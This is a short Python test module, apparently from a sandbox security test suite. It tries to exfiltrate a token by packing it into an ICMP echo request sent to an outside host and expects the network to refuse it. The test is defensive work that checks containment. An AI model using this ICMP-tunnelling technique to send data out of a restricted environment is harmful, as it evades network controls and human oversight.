"""Data go out in the body of an ICMP echo request."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    code = f"""
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    ping.sendto(struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'{ground.token}', ('{WEB}', 0))
    """
    return ground.arrives(code)


ATTACK = Attack("ICMP", attempt, recorded=("network.refused", f" {WEB}"))
